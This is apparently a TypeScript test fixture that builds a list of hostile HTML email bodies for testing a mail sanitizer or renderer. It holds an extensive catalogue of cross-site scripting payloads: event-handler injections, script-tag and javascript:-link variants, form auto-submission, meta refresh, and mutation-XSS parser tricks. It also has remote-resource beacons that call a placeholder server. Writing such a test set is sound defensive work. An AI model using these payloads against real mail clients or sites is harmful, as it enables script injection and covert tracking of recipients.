/**
 * Mails that try to run something or to fetch something when they are shown. `BEACON` is an address of a server that must
 * never be asked; `ran()` is a function of the page that must never be called. Own set, over the usual lists.
 */
export function hostileMails(beacon: string): string[] {
  const run = `fetch('${beacon}/ran')`
  const events = [
    'onload',
    'onerror',
    'onclick',
    'onmouseover',
    'onfocus',
    'ontoggle',
    'onanimationstart',
    'onpageshow'
  ]
  const tags = [
    'img src=x',
    'svg',
    'body',
    'details open',
    'video src=x',
    'input autofocus',
    'marquee',
    'iframe',
    'object',
    'style'
  ]
  const handlers = events.flatMap((event) => tags.map((tag) => `<${tag} ${event}="${run}">`))
  return [...handlers, ...scripts(run), ...links(run, beacon), ...fetches(beacon), ...mutations(run)]
}

function scripts(run: string): string[] {
  return [
    `<script>${run}</script>`,
    `<SCRIPT SRC="data:text/javascript,${run}"></SCRIPT>`,
    `<scr<script>ipt>${run}</script>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:,${run}"/></svg>`,
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<noscript><p title="</noscript><script>${run}</script>">`,
    `<template><script>${run}</script></template>`,
    `<script type="module">${run}</script>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="data:text/html,<script>${run}</script>"></object>`,
    `<embed src="data:text/html,<script>${run}</script>">`,
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
    `<svg><set onbegin="${run}" attributeName=x>`,
    `<svg/onload=${run}>`
  ]
}

function links(run: string, beacon: string): string[] {
  return [
    `<a href="javascript:${run}" id="go">x</a>`,
    `<a href="&#106;avascript:${run}">x</a>`,
    `<a href="java\tscript:${run}">x</a>`,
    `<a href="data:text/html,<script>${run}</script>">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<form action="${beacon}/form"><input autofocus name=a value=b><button>x</button></form><script>document.forms[0].submit()</script>`,
    `<form id=f action="${beacon}/form"></form><button form=f>x</button>`,
    `<base href="${beacon}/"><img src="pic.png">`,
    `<meta http-equiv="refresh" content="0;url=${beacon}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<math href="javascript:${run}">x</math>`
  ]
}

function fetches(beacon: string): string[] {
  return [
    `<img src="${beacon}/img.png">`,
    `<img srcset="${beacon}/set.png 1x, ${beacon}/set2.png 2x">`,
    `<picture><source srcset="${beacon}/pic.png"><img></picture>`,
    `<link rel="stylesheet" href="${beacon}/style.css">`,
    `<link rel="prefetch" href="${beacon}/pre">`,
    `<link rel="dns-prefetch" href="${beacon}">`,
    `<style>@import url(${beacon}/import.css);</style>`,
    `<style>body{background:url(${beacon}/bg.png)}</style>`,
    `<style>@font-face{font-family:x;src:url(${beacon}/font.woff)}body{font-family:x}</style>`,
    `<div style="background-image:url('${beacon}/inline.png')">x</div>`,
    `<div style="list-style:url(${beacon}/list.png);display:list-item">x</div>`,
    `<div style="content:url(${beacon}/content.png)">x</div>`,
    `<div style="background:u\\72l(${beacon}/escaped.png)">x</div>`,
    `<table background="${beacon}/table.png"><tr><td background="${beacon}/cell.png">x</td></tr></table>`,
    `<body background="${beacon}/body.png">`,
    `<video src="${beacon}/video.mp4" autoplay poster="${beacon}/poster.png"></video>`,
    `<audio src="${beacon}/audio.mp3" autoplay></audio>`,
    `<iframe src="${beacon}/frame"></iframe>`,
    `<frameset><frame src="${beacon}/frame2"></frameset>`,
    `<object data="${beacon}/object"></object>`,
    `<embed src="${beacon}/embed">`,
    `<svg><image href="${beacon}/svg.png" /></svg>`,
    `<svg><use href="${beacon}/use.svg#x" /></svg>`,
    `<svg><filter><feImage href="${beacon}/fe.png" /></filter></svg>`,
    `<input type="image" src="${beacon}/input.png">`,
    `<isindex action="${beacon}/isindex">`,
    `<bgsound src="${beacon}/sound">`,
    `<script src="${beacon}/script.js"></script>`,
    `<applet code="${beacon}/applet"></applet>`,
    `<a href="https://example.invalid" ping="${beacon}/ping">x</a>`
  ]
}

/** Text that becomes something else when it is parsed twice. */
function mutations(run: string): string[] {
  return [
    `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<select><template><img src=x onerror=${run}></template></select>`,
    `<p title="&quot;><img src=x onerror=${run}>">`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
    `</body></html><script>${run}</script>`,
    `</iframe></details><script>${run}</script>`,
    `"><img src=x onerror=${run}>`,
    `<img data-remote-src="x" src=x onerror=${run}>`,
    `<img data-remote-src='https://x.invalid/"onerror="${run}'>`
  ]
}
